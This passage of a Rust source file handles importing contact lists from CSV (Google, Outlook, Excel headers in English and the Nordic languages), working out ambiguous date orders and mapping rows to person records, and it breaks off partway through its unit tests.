//! CSV: contact lists in, people out.
//!
//! **In.** Google Contacts (current and legacy headers), Outlook, and lists saved from Excel in
//! English, Danish, Norwegian or Swedish are recognised by their header row; any other file is
//! read through a column mapping ([`CsvMapping`]) that the app asks for once and the workspace
//! remembers. The separator (`,` `;` or tab) is taken from the header row; the encoding is
//! UTF-8 (with or without BOM), UTF-16 or Windows-1252 ([`super::text::decode`]).
//!
//! Dates may be ISO (`1980-04-15`), `dd-mm-yyyy`, `dd.mm.yyyy`, `m/d/yyyy` or `d/m/yyyy`, or
//! year-less (`--04-15`, `15.04.`, `4/15`). A slash date whose day and month could be either
//! way round is read the way the rest of its column proves (a first part over 12 means day
//! first), else the way the known exporter writes (Outlook: month first), else by the language
//! (English: month first; Danish, Norwegian, Swedish: day first), and every such row is flagged.
//!
//! **Out.** One row a person, UTF-8 with a BOM, CRLF, and `;` as the separator for the
//! languages whose Excel expects it. The columns, in order: Name, First name, Last name,
//! Organisation, Title, E-mail, Other e-mails, Phone, Other phones, Address, Website, Tags,
//! Status, Key account, Birthday, Wedding anniversary, Customer since, Work anniversary,
//! Other dates (`label: date`, a life event marked `label (life event): date`, a one-off date
//! `(once)`, several joined by ` ::: `), Family (`Name (relation, date)`,
//! several joined by ` ::: `), Notes. Dates are ISO (`1980-04-15`, or `--04-15` without a year).
//! No cell runs as a formula in a spreadsheet: [`escape_cell`] puts a `'` where one would begin
//! (OWASP's advice against CSV injection), and [`unescape_cell`] takes it away on reading.

use super::people::{
    add_milestone, add_note, add_relative, date_words, milestone, milestone_from_label, parse_iso_date, relation_from,
};
use super::text::{self, excerpt};
use crate::i18n::{Conventions, grouped};
use crate::model::{CsvField, CsvMapping, Labelled, MilestoneKind, PartialDate, Person, Recurrence};
use crate::ops::import::{Incoming, Parsed, Skipped};
use crate::t;

mod write;
pub use write::{
    EXPORT_HEADERS, ORGANISATION_HEADERS, encode, encode_organisations, encode_rows, escape_cell, separator_for,
    unescape_cell,
};

/// Google's separator between several values in one cell.
const MULTI: &str = " ::: ";
/// How the "Other dates" column marks a life event and a one-off date.
const LIFE_EVENT: &str = " (life event)";
const ONCE: &str = " (once)";

/// Which way round a slash date's first two numbers go.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DateOrder {
    DayFirst,
    MonthFirst,
}

impl DateOrder {
    /// The order a language's users write: English month first, the Nordic languages day first.
    pub fn of(conventions: Conventions) -> DateOrder {
        match conventions {
            Conventions::En => DateOrder::MonthFirst,
            Conventions::Da | Conventions::Nb | Conventions::Sv => DateOrder::DayFirst,
        }
    }

    /// The order in words, as the notes on a file say it.
    fn words(self) -> String {
        match self {
            DateOrder::DayFirst => t!("interop-day-first"),
            DateOrder::MonthFirst => t!("interop-month-first"),
        }
    }
}

/// A CSV file read up to its header row: enough to choose the mapping.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Header {
    pub headers: Vec<String>,
    pub delimiter: u8,
    pub encoding: &'static str,
    /// The program that wrote it, when its headers say so.
    pub exporter: Option<&'static str>,
    /// The fields recognised from the headers (`Ignore` where none was).
    pub recognised: Vec<CsvField>,
}

impl Header {
    /// Whether the recognised fields are enough to import without asking.
    pub fn is_recognised(&self) -> bool {
        has_identity(&self.recognised)
    }

    /// The mapping to use: the one remembered for these headers, else the recognised one.
    pub fn mapping<'a>(&'a self, remembered: &'a [CsvMapping]) -> &'a [CsvField] {
        remembered
            .iter()
            .find(|m| m.headers == self.headers && m.fields.len() == self.headers.len())
            .map(|m| m.fields.as_slice())
            .unwrap_or(&self.recognised)
    }
}

/// Whether a mapping has a column that can name a person.
pub fn has_identity(fields: &[CsvField]) -> bool {
    fields.iter().any(|f| {
        matches!(
            f,
            CsvField::Name | CsvField::FirstName | CsvField::LastName | CsvField::Organisation | CsvField::Email
        )
    })
}

/// Reads the header row of a CSV file.
pub fn header(bytes: &[u8]) -> Result<Header, String> {
    let decoded = text::decode(bytes);
    header_of(&decoded.text, decoded.encoding)
}

fn header_of(text: &str, encoding: &'static str) -> Result<Header, String> {
    let first = text.lines().find(|l| !l.trim().is_empty()).ok_or_else(|| t!("interop-csv-empty"))?;
    if first.contains('\0') || first.chars().filter(|c| c.is_control() && *c != '\t').count() > 2 {
        return Err(t!("interop-csv-not-text"));
    }
    let (delimiter, separators) = sniff_delimiter(first);
    if separators >= MAX_COLUMNS {
        return Err(t!("interop-csv-too-many-columns", count = grouped(separators + 1), most = grouped(MAX_COLUMNS)));
    }
    let mut reader = reader(text, delimiter);
    let headers: Vec<String> = match reader.records().next() {
        Some(Ok(record)) => record.iter().map(|h| h.trim().trim_start_matches('\u{feff}').to_owned()).collect(),
        _ => return Err(t!("interop-csv-no-header")),
    };
    let outlook = headers.iter().any(|h| h.eq_ignore_ascii_case("Job Title"));
    let recognised: Vec<CsvField> = headers.iter().map(|h| recognise(h, outlook)).collect();
    let normal: Vec<String> = headers.iter().map(|h| normalise(h)).collect();
    let has = |h: &str| normal.iter().any(|n| n == h);
    let exporter = if has("e-mail n - value") || has("group membership") || has("organization name") {
        Some("Google Contacts")
    } else if has("e-mail address") && (has("job title") || has("business phone")) {
        Some("Outlook")
    } else {
        None
    };
    Ok(Header { headers, delimiter, encoding, exporter, recognised })
}

fn reader(text: &str, delimiter: u8) -> ::csv::Reader<&[u8]> {
    ::csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
}

/// A header row with more columns than this is not a contact list (Outlook writes 90).
const MAX_COLUMNS: usize = 1_000;

/// `,` `;` or tab, whichever the header row holds most of outside quotes, and how many of it.
fn sniff_delimiter(line: &str) -> (u8, usize) {
    let mut counts = [0usize; 3];
    let mut quoted = false;
    for c in line.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' if !quoted => counts[0] += 1,
            ';' if !quoted => counts[1] += 1,
            '\t' if !quoted => counts[2] += 1,
            _ => {}
        }
    }
    let best = (0..3).max_by_key(|&i| (counts[i], i)).unwrap_or(0);
    if counts[best] == 0 { (b',', 0) } else { ([b',', b';', b'\t'][best], counts[best]) }
}

/// A header lower-cased, trimmed, with its numbers as `n` ("E-mail 2 Address" → "e-mail n address").
fn normalise(header: &str) -> String {
    let lower = header.trim().trim_start_matches('\u{feff}').to_lowercase();
    let mut out = String::with_capacity(lower.len());
    let mut in_number = false;
    for c in lower.chars() {
        if c.is_ascii_digit() {
            if !in_number {
                out.push('n');
            }
            in_number = true;
        } else {
            in_number = false;
            out.push(c);
        }
    }
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The field a header names, in English, Danish, Norwegian or Swedish, as Google, Outlook,
/// Excel users and Kindred write them.
pub fn recognise(header: &str, outlook: bool) -> CsvField {
    use CsvField::*;
    let h = normalise(header);
    match h.as_str() {
        "name" | "full name" | "display name" | "navn" | "namn" | "fulde navn" | "fullt navn" | "fullständigt namn"
        | "kontaktperson" | "contact" | "contact name" => Name,
        "first name" | "firstname" | "given name" | "fornavn" | "förnamn" => FirstName,
        "middle name" | "additional name" | "mellemnavn" | "mellomnavn" | "mellannamn" => MiddleName,
        "last name" | "lastname" | "family name" | "surname" | "efternavn" | "etternavn" | "efternamn" => LastName,
        "name prefix" => NamePrefix,
        "title" if outlook => NamePrefix,
        "name suffix" | "suffix" => NameSuffix,
        "nickname" | "kaldenavn" | "kallenavn" | "smeknamn" => Nickname,
        "company"
        | "organization"
        | "organisation"
        | "organization name"
        | "organization n - name"
        | "firma"
        | "virksomhed"
        | "bedrift"
        | "företag"
        | "foretag"
        | "selskab"
        | "selskap"
        | "organisasjon"
        | "account" => Organisation,
        "department"
        | "organization department"
        | "organization n - department"
        | "afdeling"
        | "avdeling"
        | "avdelning" => Department,
        "job title"
        | "organization title"
        | "organization n - title"
        | "title"
        | "titel"
        | "tittel"
        | "stilling"
        | "role"
        | "rolle"
        | "roll"
        | "position" => Title,
        "e-mail" | "email" | "e-mail address" | "email address" | "e-mail n address" | "e-mail n - value"
        | "e-post" | "epost" | "e-postadresse" | "e-postadress" | "mail" | "other e-mails" => Email,
        "e-mail n - label" | "e-mail n - type" => EmailLabel,
        "phone" | "telephone" | "phone number" | "telefon" | "telefonnummer" | "tlf" | "tlf." | "phone n - value"
        | "primary phone" | "other phone" | "other phones" => Phone,
        "phone n - label" | "phone n - type" => PhoneLabel,
        "mobile phone" | "mobile" | "mobil" | "mobiltelefon" | "mobilnummer" => MobilePhone,
        "business phone" | "business phone n" | "company main phone" | "arbejdstelefon" | "jobbtelefon" => WorkPhone,
        "home phone" | "home phone n" | "privattelefon" | "hjemmetelefon" => HomePhone,
        "address" | "adresse" | "adress" | "address n - formatted" | "postadresse" | "postadress" => Address,
        "business street" | "home street" | "street" | "gade" | "gate" | "gata" | "vej" | "address n - street" => {
            Street
        }
        "business city" | "home city" | "city" | "by" | "sted" | "poststed" | "ort" | "postort"
        | "address n - city" => City,
        "business postal code"
        | "home postal code"
        | "postal code"
        | "zip"
        | "postnummer"
        | "postnr"
        | "postnr."
        | "address n - postal code" => PostalCode,
        "business state" | "home state" | "state" | "region" | "address n - region" => Region,
        "business country/region" | "home country/region" | "country" | "land" | "address n - country" => Country,
        "web page" | "website" | "web site" | "url" | "hjemmeside" | "nettside" | "webbplats" | "website n - value" => {
            Website
        }
        "birthday" | "birth date" | "date of birth" | "fødselsdag" | "fødselsdato" | "födelsedag" | "födelsedatum"
        | "bursdag" | "fodselsdag" | "fodselsdato" => Birthday,
        "anniversary" | "wedding anniversary" | "bryllupsdag" | "bröllopsdag" => Anniversary,
        "customer since" | "kunde siden" | "kund sedan" => CustomerSince,
        "work anniversary" => WorkAnniversary,
        "event n - label" | "event n - type" => EventLabel,
        "event n - value" => EventDate,
        "other dates" => OtherDates,
        "notes" | "note" | "noter" | "notater" | "notat" | "anteckningar" | "bemærkninger" | "kommentar"
        | "kommentarer" | "comments" => Notes,
        "labels" | "group membership" | "categories" | "tags" | "kategorier" | "grupper" | "etiketter" => Tags,
        "spouse" | "ægtefælle" | "ektefelle" | "make/maka" => Spouse,
        "children" | "børn" | "barn" => Children,
        "relation n - label" | "relation n - type" => RelationLabel,
        "relation n - value" => Relative,
        "family" | "familie" | "familj" => Family,
        "status" => Status,
        "key account" | "nøglekunde" | "nøkkelkunde" => KeyAccount,
        _ => Ignore,
    }
}

/// Every field a column can be mapped to, in the order a picker offers them.
pub const FIELDS: [CsvField; 41] = {
    use CsvField::*;
    [
        Ignore,
        Name,
        FirstName,
        MiddleName,
        LastName,
        NamePrefix,
        NameSuffix,
        Nickname,
        Organisation,
        Department,
        Title,
        Email,
        EmailLabel,
        Phone,
        PhoneLabel,
        MobilePhone,
        WorkPhone,
        HomePhone,
        Address,
        Street,
        City,
        PostalCode,
        Region,
        Country,
        Website,
        Birthday,
        Anniversary,
        CustomerSince,
        WorkAnniversary,
        EventLabel,
        EventDate,
        OtherDates,
        Notes,
        Tags,
        Spouse,
        Children,
        RelationLabel,
        Relative,
        Family,
        Status,
        KeyAccount,
    ]
};

/// A field as a person reads it in the column picker, in the current language.
pub fn field_label(field: CsvField) -> String {
    use CsvField::*;
    match field {
        Ignore => t!("interop-field-ignore"),
        Name => t!("interop-field-name"),
        FirstName => t!("interop-field-first-name"),
        MiddleName => t!("interop-field-middle-name"),
        LastName => t!("interop-field-last-name"),
        NamePrefix => t!("interop-field-name-prefix"),
        NameSuffix => t!("interop-field-name-suffix"),
        Nickname => t!("interop-field-nickname"),
        Organisation => t!("interop-field-organisation"),
        Department => t!("interop-field-department"),
        Title => t!("interop-field-title"),
        Email => t!("interop-field-email"),
        EmailLabel => t!("interop-field-email-label"),
        Phone => t!("interop-field-phone"),
        PhoneLabel => t!("interop-field-phone-label"),
        MobilePhone => t!("interop-field-mobile-phone"),
        WorkPhone => t!("interop-field-work-phone"),
        HomePhone => t!("interop-field-home-phone"),
        Address => t!("interop-field-address"),
        Street => t!("interop-field-street"),
        City => t!("interop-field-city"),
        PostalCode => t!("interop-field-postal-code"),
        Region => t!("interop-field-region"),
        Country => t!("interop-field-country"),
        Website => t!("interop-field-website"),
        Birthday => t!("interop-field-birthday"),
        Anniversary => t!("interop-field-anniversary"),
        CustomerSince => t!("interop-field-customer-since"),
        WorkAnniversary => t!("interop-field-work-anniversary"),
        EventLabel => t!("interop-field-event-label"),
        EventDate => t!("interop-field-event-date"),
        OtherDates => t!("interop-field-other-dates"),
        Notes => t!("interop-field-notes"),
        Tags => t!("interop-field-tags"),
        Spouse => t!("interop-field-spouse"),
        Children => t!("interop-field-children"),
        RelationLabel => t!("interop-field-relation-label"),
        Relative => t!("interop-field-relative"),
        Family => t!("interop-field-family"),
        Status => t!("interop-field-status"),
        KeyAccount => t!("interop-field-key-account"),
    }
}

/// The first data row's cells, to show beside the headers while choosing the mapping.
pub fn sample_row(bytes: &[u8], header: &Header) -> Vec<String> {
    let decoded = text::decode(bytes);
    let mut reader = reader(&decoded.text, header.delimiter);
    match reader.records().nth(1) {
        Some(Ok(record)) => record.iter().map(|c| excerpt(c, 40)).collect(),
        _ => Vec::new(),
    }
}

/// What [`decode`] needs besides the bytes.
#[derive(Clone, Debug)]
pub struct Options<'a> {
    /// The mapping to use instead of the recognised or remembered one.
    pub mapping: Option<&'a [CsvField]>,
    /// Remembered mappings (the workspace's).
    pub remembered: &'a [CsvMapping],
    /// The conventions ambiguous dates fall back to.
    pub conventions: Conventions,
    /// Where to count the rows read.
    pub progress: Option<&'a super::Progress>,
}

/// Reads the people of a CSV file.
pub fn decode(bytes: &[u8], options: &Options<'_>) -> Result<(Parsed, Header), String> {
    let decoded = text::decode(bytes);
    let header = header_of(&decoded.text, decoded.encoding)?;
    let mapping: Vec<CsvField> = match options.mapping {
        Some(given) => given.to_vec(),
        None => header.mapping(options.remembered).to_vec(),
    };
    if !has_identity(&mapping) {
        return Err(t!("interop-csv-no-identity", headers = excerpt(&header.headers.join(", "), 200)));
    }
    let mut rows: Vec<(usize, Vec<String>)> = Vec::new();
    let mut parsed = Parsed {
        format: match header.exporter {
            Some(exporter) => format!("CSV ({exporter})"),
            None => "CSV".to_owned(),
        },
        ..Parsed::default()
    };
    let mut reader = reader(&decoded.text, header.delimiter);
    let columns = header.headers.len();
    for (index, record) in reader.records().enumerate().skip(1) {
        if rows.len() + parsed.skipped.len() >= super::MAX_RECORDS {
            return Err(t!("interop-csv-too-many", most = grouped(super::MAX_RECORDS)));
        }
        match record {
            // The row as a spreadsheet numbers it: the header is row 1. Cells past the last
            // header have no column to go in; a row with nothing in its columns is no record.
            Ok(record) => {
                let cells: Vec<String> =
                    record.iter().take(columns).map(|cell| unescape_cell(cell).into_owned()).collect();
                if !cells.iter().all(|c| c.trim().is_empty()) {
                    rows.push((index + 1, cells));
                }
            }
            Err(error) => parsed.skipped.push(Skipped {
                source: t!("interop-csv-row", number = index + 1),
                reason: t!("interop-csv-unreadable-row", error = error.to_string()),
            }),
        }
    }
    let separator = match header.delimiter {
        b';' => t!("interop-csv-semicolons"),
        b'\t' => t!("interop-csv-tabs"),
        _ => t!("interop-csv-commas"),
    };
    parsed.notes.push(t!("interop-csv-read-as", encoding = header.encoding, separator = separator));
    let ignored: Vec<&str> = header
        .headers
        .iter()
        .zip(&mapping)
        .filter(|(h, f)| **f == CsvField::Ignore && !h.trim().is_empty())
        .map(|(h, _)| h.as_str())
        .collect();
    if !ignored.is_empty() {
        parsed.notes.push(t!("interop-csv-ignored", columns = ignored.join(", ")));
    }
    let orders = date_orders(&header, &mapping, &rows, options.conventions, &mut parsed.notes);
    super::Progress::start(options.progress, rows.len());
    for (n, (line, cells)) in rows.into_iter().enumerate() {
        super::Progress::step(options.progress, n);
        let source = t!("interop-csv-row", number = line);
        let mut notes = Vec::new();
        match row_to_person(&header.headers, &mapping, &orders, &cells, &mut notes) {
            Ok((person, organisation)) => parsed.people.push(Incoming { person, organisation, source, notes }),
            Err(reason) => parsed.skipped.push(Skipped { source, reason }),
        }
    }
    Ok((parsed, header))
}

fn is_date_field(field: CsvField) -> bool {
    matches!(
        field,
        CsvField::Birthday
            | CsvField::Anniversary
            | CsvField::CustomerSince
            | CsvField::WorkAnniversary
            | CsvField::EventDate
    )
}

/// Why a column's ambiguous dates are read in the order they are.
enum Why {
    /// Other rows of the column have a first or second part over 12.
    Proven,
    /// Outlook writes month first.
    Outlook,
    /// Nothing tells: the language's order.
    Language,
    /// Other rows prove both orders: the language's order.
    Mixed,
}

/// The order each date column's ambiguous slash dates are read in.
fn date_orders(
    header: &Header,
    mapping: &[CsvField],
    rows: &[(usize, Vec<String>)],
    conventions: Conventions,
    notes: &mut Vec<String>,
) -> Vec<DateOrder> {
    let fallback = DateOrder::of(conventions);
    let lang = conventions.code();
    mapping
        .iter()
        .enumerate()
        .map(|(column, field)| {
            if !is_date_field(*field) {
                return fallback;
            }
            let (mut day_first, mut month_first, mut ambiguous) = (false, false, false);
            for (_, cells) in rows {
                let Some(cell) = cells.get(column) else { continue };
                if let Some((a, b)) = slash_parts(cell) {
                    day_first |= a > 12 && b <= 12;
                    month_first |= b > 12 && a <= 12;
                    ambiguous |= a <= 12 && b <= 12 && a != b;
                }
            }
            let name = header.headers.get(column).map(String::as_str).unwrap_or_default();
            let (order, why) = match (day_first, month_first, header.exporter) {
                (true, false, _) => (DateOrder::DayFirst, Why::Proven),
                (false, true, _) => (DateOrder::MonthFirst, Why::Proven),
                (false, false, Some("Outlook")) => (DateOrder::MonthFirst, Why::Outlook),
                (true, true, _) => (fallback, Why::Mixed),
                (false, false, _) => (fallback, Why::Language),
            };
            if ambiguous {
                let words = order.words();
                notes.push(match why {
                    Why::Proven => t!("interop-dates-proven", column = name, order = words),
                    Why::Outlook => t!("interop-dates-outlook", column = name, order = words),
                    Why::Language => t!("interop-dates-language", column = name, order = words, lang = lang),
                    Why::Mixed => t!("interop-dates-mixed", column = name, order = words, lang = lang),
                });
            }
            order
        })
        .collect()
}

/// The first two numbers of a slash date (`3/4/1980`, `3/4`).
fn slash_parts(cell: &str) -> Option<(u32, u32)> {
    let mut parts = cell.trim().split('/');
    let a = parts.next()?.trim().parse().ok()?;
    let b = parts.next()?.trim().parse().ok()?;
    Some((a, b))
}

/// A cell that should hold a date and does not.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct NotADate;

/// A date as a CSV cell gives it: `Ok(None)` for an empty cell (and Outlook's `0/0/00`), the
/// date and whether it could have been read the other way round, or an error.
pub fn parse_date(cell: &str, order: DateOrder) -> Result<Option<(PartialDate, bool)>, NotADate> {
    let cell = cell.trim();
    if cell.is_empty() || cell.chars().all(|c| matches!(c, '0' | '/' | '-' | '.' | ' ')) {
        return Ok(None);
    }
    if let Ok(date) = PartialDate::parse_iso(cell) {
        return Ok(Some((date, false)));
    }
    if let Some(date) = parse_iso_date(cell, None) {
        return Ok(Some((date, false)));
    }
    let separator = ['/', '.', '-'].into_iter().find(|s| cell.contains(*s)).ok_or(NotADate)?;
    let parts: Vec<&str> = cell.split(separator).map(str::trim).collect();
    let parts: Vec<&str> =
        if separator == '.' && parts.last() == Some(&"") { parts[..parts.len() - 1].to_vec() } else { parts };
    let number = |s: &str| -> Result<u32, NotADate> {
        if s.is_empty() || s.len() > 4 || !s.bytes().all(|b| b.is_ascii_digit()) {
            Err(NotADate)
        } else {
            s.parse().map_err(|_| NotADate)
        }
    };
    let year = |s: &str| -> Result<i32, NotADate> {
        let n = number(s)? as i32;
        Ok(match s.len() {
            4 => n,
            2 => {
                if n > 30 {
                    1900 + n
                } else {
                    2000 + n
                }
            }
            _ => return Err(NotADate),
        })
    };
    let (first, second, y) = match parts.as_slice() {
        [y, m, d] if y.len() == 4 => {
            let date = PartialDate::ymd(year(y)?, number(m)?, number(d)?).ok_or(NotADate)?;
            return Ok(Some((date, false)));
        }
        [a, b, y] => (number(a)?, number(b)?, Some(year(y)?)),
        [a, b] => (number(a)?, number(b)?, None),
        _ => return Err(NotADate),
    };
    let (day, month, ambiguous) = if separator == '/' {
        let ambiguous = first <= 12 && second <= 12 && first != second;
        match order {
            _ if first > 12 => (first, second, false),
            _ if second > 12 => (second, first, false),
            DateOrder::DayFirst => (first, second, ambiguous),
            DateOrder::MonthFirst => (second, first, ambiguous),
        }
    } else {
        (first, second, false)
    };
    let date = match y {
        Some(y) => PartialDate::ymd(y, month, day),
        None => PartialDate::md(month, day),
    };
    date.map(|d| Some((d, ambiguous))).ok_or(NotADate)
}

fn split_multi(cell: &str) -> impl Iterator<Item = &str> {
    cell.split(MULTI).map(str::trim).filter(|s| !s.is_empty())
}

/// The parts of a name a row may give in columns of their own.
#[derive(Default)]
struct NameParts {
    name: String,
    first: String,
    middle: String,
    last: String,
    prefix: String,
    suffix: String,
    nickname: String,
}

fn row_to_person(
    headers: &[String],
    mapping: &[CsvField],
    orders: &[DateOrder],
    cells: &[String],
    notes: &mut Vec<String>,
) -> Result<(Person, String), String> {
    use CsvField::*;
    let mut person = Person::default();
    let mut organisation = String::new();
    let mut names = NameParts::default();
    let mut address_parts: Vec<String> = Vec::new();
    let mut department = String::new();
    let mut pending_label: Option<String> = None;
    for (column, cell) in cells.iter().enumerate() {
        let field = mapping.get(column).copied().unwrap_or(Ignore);
        // Quoted multi-line cells keep the file's line ends; the workspace keeps LF.
        let cleaned = if cell.contains('\r') { cell.replace("\r\n", "\n").replace('\r', "\n") } else { String::new() };
        // Control characters go before trimming: "\u{1} \u{1}" is blank, not " ".
        let without_controls = super::text::without_controls(if cell.contains('\r') { &cleaned } else { cell });
        let value = without_controls.trim();
        let header = headers.get(column).map(String::as_str).unwrap_or("?");
        let label = pending_label.take();
        if value.is_empty() && !matches!(field, EmailLabel | PhoneLabel | EventLabel | RelationLabel) {
            continue;
        }
        if value.len() > super::MAX_VALUE_BYTES && field != Ignore {
            notes.push(t!("interop-value-too-long", field = header, size = value.len() / 1000));
            continue;
        }
        match field {
            Ignore => {}
            Name => names.name = value.to_owned(),
            FirstName => names.first = value.to_owned(),
            MiddleName => names.middle = value.to_owned(),
            LastName => names.last = value.to_owned(),
            NamePrefix => names.prefix = value.to_owned(),
            NameSuffix => names.suffix = value.to_owned(),
            Nickname => names.nickname = value.to_owned(),
            Organisation => organisation = value.to_owned(),
            Department => department = value.to_owned(),
            Title => person.role = value.to_owned(),
            EmailLabel | PhoneLabel | EventLabel | RelationLabel => pending_label = Some(value.to_owned()),
            Email | Phone | MobilePhone | WorkPhone | HomePhone => add_contacts(&mut person, field, value, label),
            Address => person.contact.address = value.to_owned(),
            Street | City | PostalCode | Region | Country => address_parts.push(value.to_owned()),
            Website => person.contact.website = value.to_owned(),
            Birthday | Anniversary | CustomerSince | WorkAnniversary | EventDate => {
                let order = orders.get(column).copied().unwrap_or(DateOrder::DayFirst);
                add_dated(&mut person, (field, header, value), label, order, notes);
            }
            OtherDates => add_other_dates(&mut person, header, value, notes),
            Notes => add_note(&mut person, value),
            Tags => add_tags(&mut person, value),
            Spouse => add_relative(&mut person, value, crate::model::Relation::Spouse, None),
            Children => {
                for child in value.split([',', ';']).flat_map(|c| c.split(MULTI.trim())) {
                    add_relative(&mut person, child, crate::model::Relation::Child, None);
                }
            }
            Relative => {
                let relation = relation_from(label.as_deref().unwrap_or_default());
                for item in split_multi(value) {
                    add_relative(&mut person, item, relation.clone(), None);
                }
            }
            Family => add_family(&mut person, value),
            CsvField::Status => {
                if let Some(status) =
                    crate::model::Status::ALL.into_iter().find(|s| s.label().eq_ignore_ascii_case(value))
                {
                    person.status = status;
                }
            }
            KeyAccount => {
                person.key_account = matches!(value.to_lowercase().as_str(), "yes" | "ja" | "true" | "1" | "x")
            }
        }
    }
    if !address_parts.is_empty() && person.contact.address.is_empty() {
        person.contact.address = address_parts.join(", ");
    }
    // The department is the person's part of the organisation, not another organisation.
    if !department.is_empty() {
        person.role = if person.role.is_empty() { department } else { format!("{}, {department}", person.role) };
    }
    name_person(&mut person, &organisation, names, notes)?;
    Ok((person, organisation))
}

/// The e-mail addresses or phone numbers of a cell, with the labels of the column before it
/// (or the one the column's kind gives).
fn add_contacts(person: &mut Person, field: CsvField, value: &str, label: Option<String>) {
    let labels: Vec<&str> = label.as_deref().map(|l| split_multi(l).collect()).unwrap_or_default();
    let fixed = match field {
        CsvField::MobilePhone => Some("mobile"),
        CsvField::WorkPhone => Some("work"),
        CsvField::HomePhone => Some("home"),
        _ => None,
    };
    for (i, item) in split_multi(value).enumerate() {
        let label = fixed.or(labels.get(i).copied()).unwrap_or_default();
        let label = label.trim_start_matches("* ").to_lowercase();
        let entry = Labelled { label, value: item.to_owned() };
        let list = if field == CsvField::Email { &mut person.contact.emails } else { &mut person.contact.phones };
        if !list.iter().any(|e| e.value == entry.value) {
            list.push(entry);
        }
    }
}

/// A date column (`field`, its header and the cell's value) as a milestone; a date read one of
/// two ways is noted, and what is not a date is kept in the notes.
fn add_dated(
    person: &mut Person,
    (field, header, value): (CsvField, &str, &str),
    label: Option<String>,
    order: DateOrder,
    notes: &mut Vec<String>,
) {
    let (kind, what) = match field {
        CsvField::Birthday => (MilestoneKind::Birthday, String::new()),
        CsvField::Anniversary => (MilestoneKind::WeddingAnniversary, String::new()),
        CsvField::CustomerSince => (MilestoneKind::CustomerSince, String::new()),
        CsvField::WorkAnniversary => (MilestoneKind::WorkAnniversary, String::new()),
        _ => milestone_from_label(label.as_deref().unwrap_or_default()),
    };
    match parse_date(value, order) {
        Ok(Some((date, ambiguous))) => {
            if ambiguous {
                let date = date_words(date);
                notes.push(t!("interop-either-way", column = header, value = value, date = date));
            }
            add_milestone(person, milestone(kind, what, date));
        }
        Ok(None) => {}
        Err(NotADate) => {
            add_note(person, &format!("{header}: {value}"));
            notes.push(t!("interop-not-a-date", column = header, value = excerpt(value, 30)));
        }
    }
}

/// The "Other dates" column Kindred writes: `label: date` entries, a life event or a one-off
/// date marked after its label.
fn add_other_dates(person: &mut Person, header: &str, value: &str, notes: &mut Vec<String>) {
    for entry in split_multi(value) {
        let (what, date) = entry.rsplit_once(':').unwrap_or(("", entry));
        match parse_date(date, DateOrder::DayFirst) {
            Ok(Some((date, _))) => {
                let (what, once) = match what.strip_suffix(ONCE) {
                    Some(rest) => (rest, true),
                    None => (what, false),
                };
                let (kind, label) = match what.strip_suffix(LIFE_EVENT) {
                    Some(label) => (MilestoneKind::LifeEvent, label.trim().to_owned()),
                    None => milestone_from_label(what),
                };
                let mut new = milestone(kind, label, date);
                if once {
                    new.recurrence = Recurrence::Once;
                }
                add_milestone(person, new);
            }
            _ => {
                add_note(person, &format!("{header}: {entry}"));
                notes.push(t!("interop-not-a-date", column = header, value = excerpt(entry, 30)));
            }
        }
    }
}

/// The tags of a cell, without Google's system groups and without one already there.
fn add_tags(person: &mut Person, value: &str) {
    for tag in split_multi(value).flat_map(|t| t.split([';', ','])).map(str::trim) {
        let tag = tag.trim_start_matches("* ");
        // Google's system groups are not the user's tags.
        let system = tag.replace(' ', "").to_lowercase();
        if tag.is_empty() || system == "mycontacts" || system == "starred" {
            continue;
        }
        if !person.tags.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
            person.tags.push(tag.to_owned());
        }
    }
}

/// The "Family" column Kindred writes: `Name (relation, date)` entries.
fn add_family(person: &mut Person, value: &str) {
    for entry in split_multi(value) {
        let (who, rest) = match entry.split_once(" (") {
            Some((who, rest)) => (who, rest.trim_end_matches(')')),
            None => (entry, ""),
        };
        let mut words = rest.splitn(2, ", ");
        let relation = relation_from(words.next().unwrap_or_default());
        let birthday = words.next().and_then(|d| PartialDate::parse_iso(d).ok());
        add_relative(person, who, relation, birthday);
    }
}

/// The person's name from the row's name columns, else their nickname, organisation or e-mail
/// (with a note saying so); a row with none of them is no person.
fn name_person(
    person: &mut Person,
    organisation: &str,
    names: NameParts,
    notes: &mut Vec<String>,
) -> Result<(), String> {
    let NameParts { name, first, middle, last, prefix, suffix, mut nickname } = names;
    person.name = if !name.is_empty() {
        name
    } else {
        [prefix.as_str(), first.as_str(), middle.as_str(), last.as_str(), suffix.as_str()]
            .into_iter()
            .filter(|s| !s.is_empty())
            .collect::<Vec<_>>()
            .join(" ")
    };
    if person.name.is_empty() {
        if !nickname.is_empty() {
            person.name = std::mem::take(&mut nickname);
        } else if !organisation.is_empty() {
            notes.push(t!("interop-csv-named-after-organisation"));
            person.name = organisation.to_owned();
        } else if let Some(email) = person.contact.emails.first() {
            notes.push(t!("interop-csv-named-after-email"));
            person.name = email.value.clone();
        } else {
            return Err(t!("interop-csv-no-name"));
        }
    }
    if !nickname.is_empty() && nickname != person.name {
        // Written into the person's notes: in the language of the moment, like all they hold.
        add_note(person, &t!("interop-note-goes-by", nickname = nickname.as_str()));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Relation, Status};

    fn options(lang: &str) -> Options<'_> {
        Options {
            mapping: None,
            remembered: &[],
            conventions: Conventions::from_code(lang).expect("a code"),
            progress: None,
        }
    }

    #[test]
    fn every_field_is_offered_once() {
        for (i, field) in FIELDS.iter().enumerate() {
            assert!(!FIELDS[i + 1..].contains(field), "{field:?} twice");
            assert!(!field_label(*field).is_empty());
        }
    }

    #[test]
    fn headers_in_four_languages_are_recognised() {
        for (header, field) in [
            ("Navn", CsvField::Name),
            ("Namn", CsvField::Name),
            ("Företag", CsvField::Organisation),
            ("Firma", CsvField::Organisation),
            ("E-post", CsvField::Email),
            ("Fødselsdato", CsvField::Birthday),
            ("Födelsedag", CsvField::Birthday),
            ("E-mail 3 - Value", CsvField::Email),
            ("E-mail 2 Address", CsvField::Email),
            ("Etternavn", CsvField::LastName),
        ] {
            assert_eq!(recognise(header, false), field, "{header}");
        }
        assert_eq!(recognise("Title", true), CsvField::NamePrefix);
